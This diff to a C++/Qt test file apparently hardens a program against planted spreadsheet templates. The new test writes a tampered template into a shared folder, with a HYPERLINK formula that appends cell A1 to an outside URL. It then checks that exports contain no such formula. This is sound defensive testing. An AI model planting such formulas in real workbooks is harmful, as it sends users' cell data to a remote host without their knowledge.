@@ -18,7 +18,7 @@
 namespace
 {
 
-const QString Templates = QStringLiteral(LUMORA_BINARY_DIR "/Database");
+const QString Templates = QStringLiteral(":/templates");
 const QString Fixtures = QStringLiteral(LUMORA_SOURCE_DIR "/tests/fixtures");
 
 QByteArray ReadFile(const QString &Name)
@@ -331,6 +331,32 @@ class TestExcel : public QObject
                 QCOMPARE(Base64::ToGB18030(dump.Rows[r + 1][c]), rows[c][r]);
         QCOMPARE(dump.Rows[1][2], QString(16, ' '));
         QCOMPARE(dump.Rows[1][3], QStringLiteral("        3.50    "));
+    }
+
+    // The templates are the program's own: a workbook planted in the shared
+    // Database/ folder (any member may write it) changes no export.
+    void plantedTemplatesChangeNothing()
+    {
+        TMainFixture f;
+        const QString shared = QCoreApplication::applicationDirPath() + "/Database";
+        QVERIFY(QDir().mkpath(shared));
+        auto clean = qScopeGuard([&] {
+            QFile::remove(shared + "/pondo.xls");
+            QDir().rmdir(shared);
+            TfrmMain::SetTemplateFolder(Templates);
+        });
+        TclsWorkbook planted(ReadFile(Templates + "/pondo.xls"), "Sheet1");
+        planted.AppendRow({"=HYPERLINK(\"http://example.com/\"&A1)"});
+        WriteFile(shared + "/pondo.xls", planted.Save());
+        TfrmMain::SetTemplateFolder(QString()); // the program's own choice
+        QTemporaryDir dir;
+        const QString file = dir.filePath("out.xls");
+        TModalAnswerer answers;
+        Export(f, "mnuInAndOut_More_SaveAsExcel_1", file, answers);
+        const TSheetDump dump = ReadBack(file);
+        QVERIFY(!dump.Rows.isEmpty());
+        for (const QStringList &row : dump.Rows)
+            QVERIFY2(!row.join("").contains("HYPERLINK"), qPrintable(row.join("|")));
     }
 
     void emptyRangeAndFailures()
